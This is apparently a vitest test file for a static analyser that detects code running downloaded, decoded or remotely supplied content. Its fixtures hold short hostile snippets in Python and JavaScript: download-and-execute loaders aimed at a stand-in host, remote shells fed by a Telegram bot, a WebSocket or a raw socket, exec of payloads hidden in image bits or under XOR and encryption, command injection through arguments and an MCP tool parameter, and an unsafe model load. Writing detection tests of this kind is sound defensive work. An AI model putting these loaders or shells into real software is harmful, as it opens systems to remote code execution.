import { beforeAll, describe, expect, test } from 'vitest';
import { loadGrammars } from '../../src/parse/grammar.js';
import { analyseFiles, ofType } from './analyse-code.js';

beforeAll(() => loadGrammars(['javascript', 'python']));

type Case = readonly [name: string, files: Readonly<Record<string, string>>, facts: readonly string[]];

/** One line for each fact that says that something is run. */
function runs(files: Readonly<Record<string, string>>): string[] {
  const { facts } = analyseFiles(files);
  const executed = ofType(facts, 'execute').map(({ origin, isWhole }) => (isWhole ? `${origin} by the user` : origin));
  const shells = ofType(facts, 'remote-shell').map(() => 'remote shell');
  return [...new Set([...executed, ...shells])].sort();
}

const CASES: readonly Case[] = [
  [
    'a file by its number, loaded as a module',
    {
      'a.py': `import importlib.util as u, os, tempfile, urllib.request as r\nnumber, path = tempfile.mkstemp('.py')\nos.write(number, r.urlopen('https://c.example.invalid/m').read())\nu.spec_from_file_location('m', path)`,
    },
    ['downloaded'],
  ],
  [
    'a temporary file with a name',
    {
      'a.py': `import subprocess, tempfile, requests\nwith tempfile.NamedTemporaryFile(delete=False) as f:\n    f.write(requests.get('https://c.example.invalid/m').content)\nsubprocess.run(['sh', f.name])`,
    },
    ['downloaded'],
  ],
  [
    'a file by its number in JavaScript',
    {
      'a.js': `const fs = require('fs');\n(async () => {\n  const file = fs.mkdtempSync('/tmp/x') + '/m.js';\n  const number = fs.openSync(file, 'w');\n  fs.writeSync(number, await (await fetch('https://c.example.invalid/m')).text());\n  require(file);\n})();`,
    },
    ['downloaded'],
  ],
  [
    'a file imported by its address',
    {
      'a.mjs': `import { writeFile } from 'node:fs/promises';\nimport { pathToFileURL } from 'node:url';\nawait writeFile('/tmp/m.mjs', await (await fetch('https://c.example.invalid/m')).text());\nawait import(pathToFileURL('/tmp/m.mjs').href);`,
    },
    ['downloaded'],
  ],
  [
    'memory that has a path',
    {
      'a.py': `import os, urllib.request as r\nn = os.memfd_create('x')\nos.write(n, r.urlopen('https://c.example.invalid/m').read())\nos.execv(f'/proc/self/fd/{n}', ['x'])`,
    },
    ['downloaded'],
  ],
  [
    'machine code in memory',
    {
      'a.py': `import mmap, urllib.request as r\nm = mmap.mmap(-1, 4096, prot=mmap.PROT_WRITE | mmap.PROT_EXEC)\nm.write(r.urlopen('https://c.example.invalid/m').read())`,
    },
    ['decoded', 'downloaded'],
  ],
  [
    'a module that was downloaded, imported by its name',
    {
      'a.py': `import requests\nopen('second_half.py', 'w').write(requests.get('https://c.example.invalid/m').text)\nimport second_half`,
    },
    ['downloaded'],
  ],
  [
    'an archive of modules',
    {
      'a.py': `import sys, urllib.request as r\nr.urlretrieve('https://c.example.invalid/m.zip', '/tmp/m.zip')\nsys.path.insert(0, '/tmp/m.zip')`,
    },
    ['downloaded'],
  ],
  [
    'members of a downloaded archive that may be run',
    {
      'a.py': `import io, os, zipfile, requests\nz = zipfile.ZipFile(io.BytesIO(requests.get('https://c.example.invalid/m').content))\nfor m in z.infolist():\n    path = os.path.join('out', m.filename)\n    open(path, 'wb').write(z.read(m))\n    os.chmod(path, 0o755)`,
    },
    ['downloaded'],
  ],
  [
    'a module made of text',
    {
      'a.js': `const Module = require('module');\nrequire('https').get('https://c.example.invalid/m', (r) => {\n  const all = [];\n  r.on('data', (c) => all.push(c));\n  r.on('end', () => new Module('m')._compile(Buffer.concat(all).toString(), 'm.js'));\n});`,
    },
    ['downloaded'],
  ],
  [
    'the constructor of a function, from one',
    {
      'a.mjs': `const Made = Object.getPrototypeOf(async () => {}).constructor;\nnew Made(await (await fetch('https://c.example.invalid/m')).text())();`,
    },
    ['downloaded'],
  ],
  [
    'a module in an address',
    {
      'a.mjs': `const code = await (await fetch('https://c.example.invalid/m')).text();\nawait import('data:text/javascript;base64,' + btoa(code));`,
    },
    ['downloaded'],
  ],
  [
    'the import of an outer module',
    {
      'a.py': `(lambda get, run: run(get('https://c.example.invalid/m').read()))(__import__('urllib.request').request.urlopen, exec)`,
    },
    ['downloaded'],
  ],
  [
    'commands from a chat',
    {
      'a.py': `import os, requests\nfor m in requests.get('https://api.telegram.org/bot0:x/getUpdates').json()['result']:\n    os.system(m['message']['text'])`,
    },
    ['downloaded', 'remote shell'],
  ],
  [
    'commands from a handler that is assigned',
    {
      'a.mjs': `import { exec } from 'node:child_process';\nconst s = new WebSocket('wss://c.example.invalid');\ns.onmessage = (e) => exec(e.data);`,
    },
    ['downloaded', 'remote shell'],
  ],
  [
    'commands from a server that is a class',
    {
      'a.py': `import os, socketserver\nclass H(socketserver.BaseRequestHandler):\n    def handle(self):\n        os.popen(self.request.recv(99).decode())`,
    },
    ['downloaded', 'remote shell'],
  ],
  [
    'commands from a request, whatever its name is',
    {
      'a.js': `const { exec } = require('child_process');\nrequire('http').createServer((a, b) => exec(new URL(a.url, 'http://x').searchParams.get('c'))).listen(1);`,
    },
    ['input'],
  ],
  ['commands of another page', { 'a.js': `window.addEventListener('message', (e) => eval(e.data));` }, ['input']],
  [
    'letters in a picture',
    {
      'a.py': `from PIL import Image\nbits = ''.join(str(p[0] & 1) for p in Image.open('logo.png').getdata())\nexec(bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8)))`,
    },
    ['decoded'],
  ],
  [
    'bytes that are combined with a key',
    { 'a.py': `key = b'ab'\nexec(''.join(chr(c ^ key[i % 2]) for i, c in enumerate([1, 2, 3])))` },
    ['decoded'],
  ],
  [
    'letters in the place of others',
    { 'a.py': `table = str.maketrans('abc', 'xyz')\nexec('cab'.translate(table))` },
    ['decoded'],
  ],
  [
    'an encrypted text',
    { 'a.py': `from cryptography.fernet import Fernet\nexec(Fernet(KEY).decrypt(DATA))` },
    ['decoded'],
  ],
  ['nothing but brackets', { 'a.js': `${'[](!+)'.repeat(30)}` }, ['decoded']],
  [
    'standard input from a connection',
    {
      'a.py': `import code, socket, sys\ns = socket.create_connection(('192.0.2.4', 5))\nsys.stdin = s.makefile()\ncode.interact()`,
    },
    ['remote shell'],
  ],
  [
    'objects in a file that was downloaded',
    {
      'a.py': `import torch, urllib.request as r\nr.urlretrieve('https://c.example.invalid/m', '/tmp/m')\ntorch.load('/tmp/m', weights_only=False)`,
    },
    ['deserialised'],
  ],
];

describe('code from elsewhere', () => {
  test.each(CASES)('%s', (_, files, facts) => {
    expect(runs(files)).toEqual(facts);
  });
});

const LONG = Array.from({ length: 12 }, (_, line) => `print(${line})`).join('\n');

const INPUT: readonly Case[] = [
  [
    'a program that is there to run a command',
    {
      'a.py': `import argparse, subprocess\na = argparse.ArgumentParser().parse_args()\nsubprocess.Popen(a.server, shell=True)`,
    },
    ['input by the user'],
  ],
  [
    'an argument of a longer program',
    { 'a.py': `import sys, subprocess\n${LONG}\nsubprocess.getoutput(f'kubectl get {sys.argv[1]}')` },
    ['input by the user'],
  ],
  [
    'an argument of a program that does nothing else',
    { 'a.py': `import sys, subprocess\nsubprocess.run('grep ' + sys.argv[1], shell=True)` },
    ['input'],
  ],
  [
    'a parameter of a tool, in a longer program',
    {
      'a.py': `import os\nfrom mcp.server.fastmcp import FastMCP\nmcp = FastMCP('x')\n${LONG}\n@mcp.tool()\ndef ping(host: str) -> str:\n    return os.popen('ping ' + host).read()`,
    },
    ['input'],
  ],
];

describe('input that is run', () => {
  test.each(INPUT)('%s', (_, files, facts) => {
    expect(runs(files)).toEqual(facts);
  });
});

const HONEST: readonly Case[] = [
  [
    'a script of its own in a temporary file',
    {
      'a.py': `import os, subprocess, tempfile\nnumber, path = tempfile.mkstemp('.py')\nos.write(number, b'print(1)')\nsubprocess.run(['python3', path])`,
    },
    [],
  ],
  ['memory that is only read', { 'a.py': `import mmap\nmmap.mmap(3, 0, prot=mmap.PROT_READ)` }, []],
  [
    'plugins in a folder',
    {
      'a.py': `import importlib.util, pathlib\nfor p in pathlib.Path('plugins').glob('*.py'):\n    importlib.util.spec_from_file_location(p.stem, p)`,
    },
    [],
  ],
  [
    'a downloaded picture in a temporary file',
    {
      'a.py': `import requests, tempfile\nfrom PIL import Image\nwith tempfile.NamedTemporaryFile() as f:\n    f.write(requests.get('https://c.example.invalid/a.png').content)\n    Image.open(f.name).save('b.png')`,
    },
    [],
  ],
];

describe('honest code that does the like', () => {
  test.each(HONEST)('%s', (_, files, facts) => {
    expect(runs(files)).toEqual(facts);
  });
});
